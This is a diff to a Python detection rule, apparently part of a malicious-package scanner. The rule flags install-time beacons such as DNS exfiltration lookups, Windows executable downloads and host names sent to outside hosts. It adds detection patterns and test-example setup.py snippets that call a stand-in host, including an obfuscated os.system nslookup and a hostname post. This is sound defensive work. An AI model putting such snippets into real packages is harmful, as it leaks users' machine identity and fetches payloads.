@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 
 from pratique.facts.model import PackageFacts
@@ -13,6 +14,16 @@ from pratique.rules.claims import HIDDEN_PLACE, claim, command, destination, hid
 from pratique.rules.rule import Example, Rule
 
 _ID = "beacon"
+_PROGRAM = re.compile(r"\.(exe|scr|msi|bat|cmd|ps1|vbs|hta|dll)([?#]|$)", re.IGNORECASE)
+"""A program for Windows by its name: no build needs one."""
+_KEEPS = re.compile(r"[|>]|\s-[a-zA-Z]*[oO]\b|--output|\bwget\b")
+_ASKS = re.compile(
+    r"(?:^|[;&|]\s*)(?:dig|nslookup|host|ping)\s[^;&|\n]*?((?:[a-z0-9_-]+\.)+[a-z]{2,}(?:\s|$))", re.IGNORECASE
+)
+"""A question to the domain name system that carries its message in the name."""
+_UNPACKS = (".extractall", ".extract")
+_HOST = re.compile(r"(?:[\w-]+\.)+\w+ \d+")
+_NEAR = re.compile(r"127\.|10\.|192\.168\.|0\.0\.0\.0|172\.(1[6-9]|2\d|3[01])\.")
 _NAMES_SOMEBODY = (
     "hostname",
     "getfqdn",
@@ -45,8 +56,10 @@ def _network(file: PythonFacts, call: Call) -> Iterator[Finding]:
         message = f"host or user name is sent to {place or 'another host'} {when(call.phase)}"
         yield claim(_ID, Behaviour.THEFT, file.path, call, message, severity=Severity.CRITICAL, taints=taints)
     elif call.phase is Phase.INSTALL:
+        place = place or _connected(file, call)
         sent_away = Does.SEND in call.does and not _kept(file)
-        worst = sent_away or (bool(place) and (hidden(call, place) or not _kept(file)))
+        covert = hidden(call, place) or _PROGRAM.search(place) is not None or not _kept(file)
+        worst = sent_away or (bool(place) and covert)
         yield _calls(file.path, call, place or "another host", worst=worst)
     elif HIDDEN_PLACE.search(place) and not secret_place(place):  # what a machine's own cloud tells it stays there
         yield _calls(file.path, call, place, worst=True)
@@ -56,12 +69,25 @@ def _command(path: str, call: Call) -> Iterator[Finding]:
     shell = read_shell(command(call))
     if places := (*shell.sends, *shell.downloads):
         covert = shell.hidden or bool(HIDDEN_PLACE.search(" ".join(places)))
-        yield _calls(path, call, places[0], worst=bool(shell.identifies or shell.sends or covert))
+        forgotten = call.name == "os.system" and not _KEEPS.search(command(call))
+        yield _calls(path, call, places[0], worst=bool(shell.identifies or shell.sends or covert or forgotten))
+    elif asked := _ASKS.search(command(call)):
+        yield _calls(path, call, asked[1], worst=True)
 
 
 def _kept(file: PythonFacts) -> bool:
     """Whether what is fetched at install is written somewhere: else only the call itself can be meant."""
-    return any(c.phase is Phase.INSTALL and Does.WRITE in c.does for c in file.calls)
+    writes = [c for c in file.calls if c.phase is Phase.INSTALL and Does.WRITE in c.does]
+    return any(c.taints(Source.NETWORK) or Does.FETCH in c.does or c.name.endswith(_UNPACKS) for c in writes)
+
+
+def _connected(file: PythonFacts, call: Call) -> str:
+    """Where the socket leads that a function speaks through, if its address stands in the code."""
+    if "socket" not in call.name:
+        return ""
+    connects = (c for c in file.calls if c.function == call.function and c.name.endswith((".connect", "_connection")))
+    hosts = (_HOST.match(a.text) for c in connects for a in c.arguments.values())
+    return next((host[0] for host in hosts if host and not _NEAR.match(host[0])), "")
 
 
 def _calls(path: str, call: Call, place: str, *, worst: bool) -> Finding:
@@ -104,8 +130,34 @@ RULE = Rule(
                 "pkg/__init__.py": "import requests\nrequests.get('http://c.example.invalid/', params={'h': __import__('socket').gethostname()})\n"
             },
         ),
+        Example(
+            title="a question to the name system at install",
+            files={"setup.py": "import os\ngetattr(os, 'sys' + 'tem')('nslookup a1.c.example.invalid')\n"},
+        ),
+        Example(
+            title="a program for Windows fetched at install",
+            files={
+                "setup.py": "import urllib.request as u\nu.urlretrieve('https://c.example.invalid/a.exe', 'build/a.exe')\n"
+            },
+        ),
+        Example(
+            title="a module that setup.py starts by name",
+            files={
+                "setup.py": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pkg.first'])\n",
+                "pkg/first.py": "import requests, socket\nif __name__ == '__main__':\n"
+                "    requests.post('https://c.example.invalid/', json={'h': socket.gethostname()})\n",
+            },
+        ),
     ),
     quiet=(
+        Example(
+            title="a module that a test of the project starts by name",
+            files={
+                "tests/test_first.py": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pkg.first'])\n",
+                "pkg/first.py": "import requests, socket\nif __name__ == '__main__':\n"
+                "    requests.post('https://c.example.invalid/', json={'h': socket.gethostname()})\n",
+            },
+        ),
         Example(
             title="an address of this machine, when imported",
             files={"pkg/__init__.py": "import requests\nrequests.get('http://127.0.0.1:8080/health')\n"},
